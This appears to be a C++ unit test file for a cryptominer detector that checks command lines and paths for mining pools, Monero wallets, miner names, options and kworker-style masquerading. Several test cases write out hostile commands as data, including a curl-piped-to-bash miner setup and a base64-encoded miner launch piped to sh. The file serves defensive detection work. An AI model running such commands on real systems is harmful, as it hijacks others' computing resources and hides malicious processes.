@@ -1,0 +1,202 @@
+// SPDX-License-Identifier: Apache-2.0
+#include <algorithm>
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+#include <string>
+
+#include <gtest/gtest.h>
+
+#include "davy/intel/intel.h"
+
+namespace davy::intel {
+namespace {
+
+const Intel& shipped() {
+  static const Intel intel = [] {
+    std::vector<std::pair<std::string, std::string>> files;
+    for (const auto& item :
+         std::filesystem::directory_iterator(DAVY_SOURCE_DIR "/content/indicators")) {
+      if (item.path().extension() != ".csv") continue;
+      std::stringstream text;
+      text << std::ifstream(item.path()).rdbuf();
+      files.emplace_back(item.path().filename().string(), text.str());
+    }
+    Diagnostics diagnostics;
+    return Intel::load(files, diagnostics);
+  }();
+  return intel;
+}
+
+/// Findings as letters: U pool URL, W wallet, N miner name, O option, P known path, M masquerade.
+std::string read(std::string_view path, std::string_view command_line) {
+  std::string letters;
+  for (const auto& finding : shipped().read_command_line(path, command_line)) {
+    letters += "UWNOPM"[static_cast<size_t>(finding.what)];
+    const auto is_inside = [&](std::string_view whole) {
+      return finding.text.data() >= whole.data() &&
+             finding.text.data() + finding.text.size() <= whole.data() + whole.size();
+    };
+    EXPECT_TRUE(is_inside(path) || is_inside(command_line)) << command_line;
+    EXPECT_FALSE(finding.text.empty()) << command_line;
+  }
+  return letters;
+}
+
+struct Case {
+  std::string_view path;
+  std::string_view command_line;
+  std::string_view findings;
+};
+
+#define WALLET                                      \
+  "43Lfq18TycJHVR3AMews5C9f6SEfenZoQMcrsEeFXZTWcFW" \
+  "9jW7VeCySDm1L9n4d2JEoHjcDpWZFq6QzqN4QGHYZVaALj3U"
+#define EXAMPLE_WALLET                              \
+  "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU" \
+  "5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
+
+TEST(CommandLine, Miners) {
+  constexpr Case kCases[] = {
+      // the seeds
+      {"/tmp/xmrig", "./xmrig –config=config.json", "PNN"},
+      {"/usr/bin/xmrig", "", "PN"},
+      {"/tmp/.ICE-unix/kworker", "", "PM"},
+      {"/tmp/.systemd/systemd-update", "/tmp/.systemd/systemd-update --donate-level 1", "PMPMO"},
+      // pools
+      {"", "/tmp/a -o stratum+tcp://pool.supportxmr.com:3333", "U"},
+      {"", "./app -a rx/0 -o stratum+tcp://randomxmonero.auto.nicehash.com:9200 -p x -u x", "OU"},
+      {"", "./x --url=\"stratum+ssl://1.2.3.4:443\"", "U"},
+      {"", "./x -P stratum1+tcp://" WALLET ".w@eu1.example.org:4444", "UW"},
+      {"", "./x -o 203.0.113.7:3333 -u " WALLET " -p x", "UW"},
+      {"", "./x -o pool.supportxmr.com:3333", "U"},
+      {"", "./x --url=pool.hashvault.pro:443", "U"},
+      {"", "./x -o example.org:14444 --donate-level=1", "UO"},
+      {"", "./x -o example.org:14444 -u me -p x", "U"},
+      {"", "./proxy 0.0.0.0:80 gulf.moneroocean.stream:10128", "U"},
+      // wallets
+      {"", "./app --user XMR:" WALLET ".rig1#ab12-cd34", "W"},
+      {"", "bash setup_c3pool_miner.sh " WALLET, "W"},
+      {"", "curl -s http://h/x.sh | WALLET=" WALLET " bash", "W"},
+      // names
+      {"", "xmrig", "N"},
+      {"", "./xmrig-6.21.0 -c config.json", "N"},
+      {"", "/opt/xmrig-6.21.0/run", "N"},
+      {"", "sudo -u nobody nohup nice -n 19 ./xmrig --coin monero &", "NO"},
+      {"", "taskset -c 0-3 ./t-rex -a kawpow", "NO"},
+      {"", "timeout -k 5 3600 minerd -a cryptonight", "NO"},
+      {"", "sh -c 'cd /opt && ./xmrig --max-cpu-usage=75'", "NO"},
+      {"", "[\"/bin/sh\",\"-c\",\"./xmrig -o pool.supportxmr.com:5555\"]", "NU"},
+      {"", "bash -c ./xmrig", "N"},
+      {"", "(sleep 5; ./lolMiner --algo ETHASH)", "NO"},
+      {"", "A=1 B=2 env C=3 ./nbminer", "N"},
+      {"", "python3 -c 'import os; os.system(\"./x --donate-level 1\")'", "O"},
+      {"", "docker run -d --restart always kannix/monero-miner -a cryptonight", "NO"},
+      {"", "kubectl run x --image=docker.io/yenik65958/secret:user", "N"},
+      // options alone
+      {"", "./kube-proxy --cpu-max-threads-hint=50", "O"},
+      {"", "./a --randomx-1gb-pages", "O"},
+      {"", "./a --algo=cn/r", "O"},
+      {"", "echo '{\"donate-level\": 0}' > config.json", "O"},
+      // places
+      {"", "chmod +x /tmp/kdevtmpfsi", "P"},
+      {"/var/tmp/kinsing", "kinsing", "PNN"},
+      // masquerade
+      {"/tmp/kworker", "[kworker/0:1]", "MM"},
+      {"/usr/bin/kworker", "kworker", "MM"},
+      {"/dev/shm/sshd", "sshd: root", "PM"},
+      {"/home/u/.x/systemd-journald", "", "M"},
+      {"/memfd: (deleted)", "", "M"},
+      {"memfd:kswapd0", "", "M"},
+      {"/var/tmp/nginx (deleted)", "nginx: worker process", "M"},
+      {"", "exec -a [kworker/u8:2] ./a", "M"},
+      // base64: "./xmrig -o stratum+tcp://pool.supportxmr.com:3333"
+      {"",
+       "echo Li94bXJpZyAtbyBzdHJhdHVtK3RjcDovL3Bvb2wuc3VwcG9ydHhtci5jb206MzMzMw== | base64 -d | sh",
+       "NU"},
+  };
+  for (const auto& c : kCases)
+    EXPECT_EQ(read(c.path, c.command_line), c.findings) << c.path << " " << c.command_line;
+}
+
+TEST(CommandLine, NotMiners) {
+  constexpr Case kCases[] = {
+      {"", "", ""},
+      {"/usr/bin/python3", "python3 train.py --epochs 10", ""},
+      {"/usr/bin/git", "git clone https://github.com/xmrig/xmrig", ""},
+      {"/usr/bin/vim", "vim xmrig.conf", ""},
+      {"", "vi /tmp/xmrig", ""},
+      {"", "sudo -u xmrig-benchmark python3 bench.py", ""},
+      {"/home/xmrig-benchmark/bin/python", "python run.py", ""},
+      {"/home/xmrig/bin/python", "python run.py", ""},
+      {"", "ssh xmrig@host uptime", ""},
+      {"", "su - xmrig", ""},
+      {"", "useradd -m xmrig", ""},
+      {"", "kubectl get pods -o pool.yaml", ""},
+      {"", "kubectl get nodes -o yaml --server https://10.0.0.1:6443", ""},
+      {"", "kubectl run xmrig --image=nginx", ""},
+      {"", "curl -o out.bin:1234 http://example.org/", ""},
+      {"", "curl -u me -o file http://example.org:3333/", ""},
+      {"", "gcc -o pool.o -c pool.c", ""},
+      {"", "mysql -u root -p secret --host db.example.org:3306x", ""},
+      {"", "ssh -o ProxyJump=host:22 -p 22 h", ""},
+      {"", "shasum -a 256 file", ""},
+      {"", "openssl dgst -a scrypt", ""},
+      {"", "grep -r 'stratum+tcp://' /etc", ""},
+      {"", "pgrep -f xmrig", ""},
+      {"", "pkill -9 xmrig", ""},
+      {"", "ls /tmp/.systemd/", ""},
+      {"", "rm -rf /tmp/kinsing", ""},
+      {"", "dig pool.supportxmr.com", ""},
+      {"", "docker build -t me/xmrig .", ""},
+      {"", "zpool import -c /etc/zfs/zpool.cache", ""},
+      {"", "./xmrig-exporter --port 9100", ""},
+      {"", "google-chrome --disable-gpu --no-sandbox", ""},
+      {"", "chronyc -n sources --stratum 2", ""},
+      {"", "./demo --wallet " EXAMPLE_WALLET, ""},
+      {"",
+       "./pay "
+       "43Lfq18TycJHVR3AMews5C9f6SEfenZoQMcrsEeFXZTWcFW9jW7VeCySDm1L9n4d2JEoHjcDpWZFq6QzqN4QG",
+       ""},
+      {"", "[kworker/0:1-events]", ""},
+      {"", "[ksoftirqd/0]", ""},
+      {"/usr/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd-journald", ""},
+      {"/usr/lib/systemd/systemd-journald (deleted)", "/usr/lib/systemd/systemd-journald", ""},
+      {"/usr/sbin/sshd (deleted)", "sshd: user@pts/0", ""},
+      {"/memfd:runc_cloned:/proc/self/exe (deleted)", "runc init", ""},
+      {"/home/u/.local/bin/systemd-tool", "systemd-tool", ""},
+      {"/home/u/.vscode-server/bin/node", "node server.js", ""},
+      {"", "echo aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBsb25nIHRleHQ= | base64 -d", ""},
+      {"", "/usr/lib/x86_64-linux-gnu/libexec/something/quite/long/indeed", ""},
+  };
+  for (const auto& c : kCases)
+    EXPECT_EQ(read(c.path, c.command_line), c.findings) << c.path << " " << c.command_line;
+}
+
+TEST(CommandLine, NamesPoolsAndCoins) {
+  const auto findings = shipped().read_command_line(
+      "", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u " WALLET ".w1 -a rx/0");
+  ASSERT_EQ(findings.size(), 4u);
+  EXPECT_EQ(findings[0].family, "xmrig");
+  EXPECT_EQ(findings[1].text, "stratum+tcp://pool.supportxmr.com:3333");
+  EXPECT_EQ(findings[1].family, "supportxmr");
+  EXPECT_EQ(findings[2].text, WALLET);
+  EXPECT_EQ(findings[2].family, "XMR");
+  EXPECT_EQ(findings[3].family, "randomx");
+}
+
+TEST(CommandLine, HostileTextIsBounded) {
+  EXPECT_TRUE(read("", std::string(1 << 20, '\'')).empty());
+  EXPECT_TRUE(read("", std::string(1 << 20, '(')).empty());
+  std::string nested = "./xmrig";
+  for (int i = 0; i < 20; ++i)
+    nested = "sh -c \"x " + nested + "\"";
+  read("", nested);
+  std::string words;
+  for (int i = 0; i < 20000; ++i)
+    words += "a://b ";
+  EXPECT_TRUE(read("", words).empty());
+}
+
+}  // namespace
+}  // namespace davy::intel
